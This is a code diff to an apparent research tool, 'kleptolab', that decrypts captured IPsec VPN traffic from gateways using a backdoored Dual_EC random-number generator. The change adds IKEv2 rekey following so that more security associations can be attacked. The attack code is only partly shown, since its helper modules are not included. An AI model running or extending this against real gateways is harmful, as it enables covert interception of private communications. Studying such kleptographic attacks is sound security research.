@@ -33,6 +33,7 @@ from kleptolab.attack.errors import AttackFailure
 from kleptolab.attack.forward import DEFAULT_WINDOW, ForwardWindow, Lineage
 from kleptolab.attack.ikev1_attack import Ikev1Handshake, Ikev1Outcome, attack_ikev1, parse_ikev1
 from kleptolab.attack.ikev2_attack import Ikev2Handshake, Ikev2Outcome, attack_ikev2, parse_ikev2
+from kleptolab.attack.ikev2_rekey import adopt_rekeys
 from kleptolab.attack.outputs import EspSaRow, Ikev1Row, Ikev2Row
 from kleptolab.attack.prng_walk import PrngWalker
 from kleptolab.attack.recovery import NONCE_SIZE, NonceCache
@@ -42,8 +43,8 @@ if TYPE_CHECKING:
     from kleptolab.attack.engine import Engine
     from kleptolab.drbg.trapdoor import Trapdoor
 
-__all__ = ["NOT_DUAL_EC", "WRONG_Q", "DecryptOptions", "DecryptResult", "GatewayAttack", "attack_sessions",
-           "decrypt_capture", "parse_session"]
+__all__ = ["NOT_DUAL_EC", "WRONG_Q", "DecryptOptions", "DecryptResult", "GatewayAttack", "Rekeyable",
+           "attack_sessions", "decrypt_capture", "parse_session"]
 
 Progress = Callable[[str, int, int], None]
 Handshake = Ikev1Handshake | Ikev2Handshake
@@ -67,6 +68,8 @@ class DecryptOptions:
     quirk_shifts: int = 0
     psk_wordlist: tuple[bytes, ...] = ()
     window: int = DEFAULT_WINDOW
+    ike_ports: frozenset[int] = frozenset()
+    """UDP ports to read as IKE/NAT-T whatever their content (IKE elsewhere is found by content)."""
 
 
 @dataclass
@@ -120,19 +123,28 @@ class GatewayAttack:
     lineage: Lineage
     timings: dict[str, float]
     session_s: dict[str, float]  # attack time per IKE SA
+    adopted: list[Handshake] = field(default_factory=list)  # IKE SAs found by following rekeys
 
 
 def attack_sessions(
     handshakes: list[Handshake], q: tuple[int, int], sweep: Sweep, cache: NonceCache,
     options: DecryptOptions = DecryptOptions(), progress: Progress | None = None,
     window: ForwardWindow | None = None, lineage: Lineage | None = None,
+    rekeyable: Rekeyable | None = None,
 ) -> GatewayAttack:
     """Anchor the PRNG walk at every responder nonce of ``handshakes`` (one gateway), then attack each SA.
 
     ``sweep`` recovers the states of nonces nothing predicts; ``window`` holds the
     gateway's stored states (walked before any sweep); ``lineage`` receives the
-    draw position of every state recovered.
+    draw position of every state recovered.  ``rekeyable``: the IKE SAs without an
+    IKE_SA_INIT of their own (message groups and report entries), which an IKEv2
+    IKE SA rekey (RFC 7296 §2.18) found in a parent's messages turns into more SAs
+    to attack, round after round (:func:`~kleptolab.attack.ikev2_rekey.adopt_rekeys`).
     """
+    rekeyable = rekeyable if rekeyable is not None else Rekeyable()
+    handshakes = list(handshakes)
+    adopted_ids: set[str] = set()
+    adopted: list[Handshake] = []
     walker = PrngWalker(q, options.steps, options.exponent_bytes)
     lineage = lineage if lineage is not None else Lineage()
     timings: dict[str, float] = {"recovery_s": 0.0, "sweep_s": 0.0}
@@ -168,8 +180,10 @@ def attack_sessions(
     cracked: dict[str, tuple[bytes, dict[str, object]]] = {}
     todo = list(handshakes)
     t_attack, r_before = time.perf_counter(), timings["recovery_s"]
-    for _round in range(MAX_ROUNDS):
+    # each IKE SA rekey may need a round of its own
+    for _round in range(MAX_ROUNDS + len(handshakes) + len(rekeyable.groups)):
         extra: list[Sighting] = []
+        rekeyed: list[Handshake] = []
         for i, h in enumerate(todo):
             if progress is not None:
                 progress("attacking IKE SAs", i, len(todo))
@@ -177,6 +191,9 @@ def attack_sessions(
             out = _attack(h, walker, options, cracked)
             outcomes[h.sid] = out
             session_s[h.sid] = round(time.perf_counter() - t0, 4)
+            if isinstance(out, Ikev2Outcome):
+                rekeyed += adopt_rekeys(out, rekeyable.groups, rekeyable.entries, rekeyable.new_entries,
+                                        adopted_ids)
             label = "Quick Mode Nr" if isinstance(h, Ikev1Handshake) else "CREATE_CHILD_SA Nr"
             for n, o in out.child_nonces:
                 if len(n) == NONCE_SIZE and n not in walked:
@@ -184,15 +201,32 @@ def attack_sessions(
                     extra.append(Sighting(h.sid, label, n, o))
         if progress is not None:
             progress("attacking IKE SAs", len(todo), len(todo))
-        if not extra:
+        handshakes += rekeyed
+        adopted += rekeyed
+        if not extra and not rekeyed:
             break
-        recover(extra)  # a child nonce a walk predicts costs nothing; the others are swept
-        retry = {e.session for e in extra}
+        if extra:
+            recover(extra)  # a child nonce a walk predicts costs nothing; the others are swept
+        retry = {e.session for e in extra} | {h.sid for h in rekeyed}
         todo = [h for h in handshakes if h.sid in retry]
     timings["attack_s"] = time.perf_counter() - t_attack - (timings["recovery_s"] - r_before)
     for h in handshakes:  # a walk that predicts another connection's nonce confirms its state
         walker.find_output(h.nr)
-    return GatewayAttack(outcomes, recoveries, walker, lineage, timings, session_s)
+    return GatewayAttack(outcomes, recoveries, walker, lineage, timings, session_s, adopted)
+
+
+@dataclass
+class Rekeyable:
+    """IKE SAs a gateway's capture(s) show without an IKE_SA_INIT: candidates for rekeyed SAs.
+
+    ``groups``: their messages by (SPIi, SPIr); ``entries``: their report entries by
+    session id (updated in place when adopted); ``new_entries`` receives the entries
+    of rekeyed SAs that had none.
+    """
+
+    groups: dict[tuple[bytes, bytes], list[IkePacket]] = field(default_factory=dict)
+    entries: dict[str, dict[str, Any]] = field(default_factory=dict)
+    new_entries: list[dict[str, Any]] = field(default_factory=list)
 
 
 def report_session(
